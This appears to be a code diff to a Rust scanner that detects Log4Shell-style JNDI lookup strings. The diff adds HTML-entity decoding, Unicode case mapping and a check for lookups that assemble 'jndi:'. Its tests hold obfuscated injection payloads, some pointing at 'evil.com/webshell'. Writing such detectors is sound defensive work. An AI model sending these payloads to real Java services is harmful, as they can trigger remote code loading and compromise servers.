@@ -31,25 +31,29 @@ struct State {
 /// Per-value scan.
 pub fn scan(v: &Value<'_>, out: &mut Vec<Hit>) {
     let t = v.text;
-    if !t.contains('$') || !(t.contains('{') || t.contains("\\u") || t.contains("\\U")) {
+    if !t.contains('$') || !(t.contains('{') || t.contains("\\u") || t.contains("\\U") || t.contains('&')) {
         return;
     }
     let bytes = unescape(t.as_bytes().get(..MAX_BYTES).unwrap_or(t.as_bytes()));
+    let bytes = brace_entities(&bytes);
     let Some(first) = find_open(&bytes, 0) else { return };
     let since = out.len();
     let mut st = State::default();
     let resolved = resolve(bytes.get(first..).unwrap_or_default(), 0, &mut st);
     let literal = super::textscan::contains_ci(t, "${jndi:");
+    // Lookups that assemble `jndi:` outside a lookup (for a second evaluation pass).
+    let assembled = st.lookup_syntax && super::textscan::contains_ci(&String::from_utf8_lossy(&resolved), "jndi:");
     if let Some(ev) = st.jndi {
         let rule = if literal { "jndi.lookup" } else { "jndi.obfuscated-lookup" };
         push_once(out, since, hit(rule, CLASS, 5, 1, ev));
     } else if literal {
         // Unterminated or otherwise unresolvable, but spelled out.
         push_once(out, since, hit("jndi.lookup", CLASS, 5, 1, snippet(t, super::textscan::find_ci(t, "${jndi:").unwrap_or(0), 100)));
+    } else if assembled {
+        push_once(out, since, hit("jndi.obfuscated-lookup", CLASS, 5, 1, snippet(&String::from_utf8_lossy(&resolved), 0, 100)));
     } else if st.lookup_syntax {
         push_once(out, since, hit("jndi.lookup-syntax", CLASS, 3, 1, snippet(&String::from_utf8_lossy(&bytes), first, first + 100)));
     }
-    let _ = resolved;
 }
 
 /// Decodes `\uXXXX` (ASCII only) and `\xHH` escapes, which Java-ish layers often undo.
@@ -81,6 +85,34 @@ fn unescape(s: &[u8]) -> Vec<u8> {
             }
         }
         out.push(b);
+        i += 1;
+    }
+    out
+}
+
+/// `&lbrace;`, `&rbrace;`, `&dollar;` (also without `;`, any case), `&#123;`, `&#x7b;`.
+fn brace_entities(s: &[u8]) -> Vec<u8> {
+    if !s.contains(&b'&') {
+        return s.to_vec();
+    }
+    const ENTS: &[(&[u8], u8)] = &[
+        (b"&lbrace;", b'{'), (b"&rbrace;", b'}'), (b"&dollar;", b'$'), (b"&lbrace", b'{'),
+        (b"&rbrace", b'}'), (b"&dollar", b'$'), (b"&#123;", b'{'), (b"&#125;", b'}'),
+        (b"&#x7b;", b'{'), (b"&#x7d;", b'}'), (b"&#36;", b'$'), (b"&#x24;", b'$'),
+    ];
+    let mut out = Vec::with_capacity(s.len());
+    let mut i = 0;
+    'outer: while let Some(&c) = s.get(i) {
+        if c == b'&' {
+            for (e, r) in ENTS {
+                if s.get(i..i + e.len()).is_some_and(|w| w.eq_ignore_ascii_case(e)) {
+                    out.push(*r);
+                    i += e.len();
+                    continue 'outer;
+                }
+            }
+        }
+        out.push(c);
         i += 1;
     }
     out
@@ -176,8 +208,9 @@ fn evaluate(inner: &[u8], st: &mut State) -> Vec<u8> {
     }
     let rest = text.get(prefix.len() + 1..).unwrap_or_default();
     match prefix.as_str() {
-        "lower" => rest.to_ascii_lowercase().into_bytes(),
-        "upper" => rest.to_ascii_uppercase().into_bytes(),
+        // Java's case mapping is Unicode-aware (`${upper:ı}` is `I`).
+        "lower" => rest.to_lowercase().into_bytes(),
+        "upper" => rest.to_uppercase().into_bytes(),
         "date" => rest.chars().filter(|&c| c != '\'').collect::<String>().into_bytes(),
         _ => Vec::new(),
     }
@@ -208,6 +241,9 @@ mod tests {
             "${${upper:j}ndi:ldap://x}",
             "${${date:'j'}${date:'n'}${date:'d'}${date:'i'}:ldap://x}",
             "prefix ${jndi:ldap://x",
+            "${${lower:jnd}${lower:${upper:ı}}:ldap:/x/z}",
+            "$&LBRACE;jndi:ldap://evil.com/webshell}",
+            "$\\u0026lbracejndi:ldap://evil.com/webshell}",
         ] {
             assert!(rules(a).iter().any(|(_, s)| *s >= 5), "{a}: {:?}", rules(a));
         }
